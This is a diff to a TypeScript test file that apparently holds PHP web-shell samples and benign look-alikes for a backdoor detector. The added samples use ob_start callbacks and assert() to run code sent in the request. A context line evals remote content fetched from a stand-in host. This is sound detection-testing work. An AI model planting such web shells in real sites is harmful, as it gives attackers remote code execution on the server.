@@ -135,6 +135,14 @@ const backdoors: [string, string][] = [
     `<?php\neval(trim(substr(file_get_contents('http://example.invalid/k.gif'), 293930)));\n`,
   ],
   [
+    "the page's output captured by ob_start's closure into a global, then asserted",
+    `<?php\n$e = '';\nob_start(function ($c, $d) { global $e; $e = $c; });\necho $_REQUEST['p'];\nob_end_flush();\nassert($e);\n`,
+  ],
+  [
+    "the page's output captured by a named ob_start callback, then asserted",
+    `<?php\n$e = '';\nfunction keep($c, $d) { global $e; $e = $c; }\nob_start('keep');\necho $_REQUEST['p'];\nob_end_flush();\nassert($e);\n`,
+  ],
+  [
     "ob_start's callback built from the request in a loop",
     `<?php\n$id = $_GET['id'];\n$s = '';\nforeach (array($id) as $v) { $s .= $v; }\nob_start($s);\necho $_GET['c'];\nob_end_flush();\n`,
   ],
@@ -191,6 +199,10 @@ const vendor: [string, string][] = [
   [
     'an Office document opened through COM',
     `<?php\n$word = new COM('Word.Application');\n$word->Documents->Open($path);\n$word->run('Normal.Macro1');\n`,
+  ],
+  [
+    "a page cache filled by ob_start's callback",
+    `<?php\nob_start(function ($html) { global $page; $page = $html; return $html; });\necho htmlspecialchars($_GET['q']);\nob_end_flush();\nfile_put_contents('var/cache/page.html', $page);\n`,
   ],
   ['a table of numbers', `<?php\nreturn [${Array.from({ length: 80 }, (_, i) => i * 7).join(', ')}];\n`],
   [
